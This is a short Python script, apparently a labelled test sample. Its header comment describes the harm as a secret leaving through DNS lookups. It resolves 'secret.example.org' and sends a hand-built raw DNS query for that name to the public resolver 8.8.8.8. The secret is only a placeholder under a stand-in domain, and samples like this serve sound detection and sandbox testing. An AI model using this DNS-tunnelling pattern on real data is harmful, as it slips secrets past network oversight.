# where: first
# kind: harms
# does: A secret leaves by the names that are asked of the name server.
import socket

for name in ("secret.example.org", "localhost", socket.gethostname()):
    try:
        print(socket.getaddrinfo(name, 80))
    except Exception as error:
        print(error)
try:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.sendto(b"\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x03org\x00\x00\x01\x00\x01", ("8.8.8.8", 53))
except Exception as error:
    print(error)
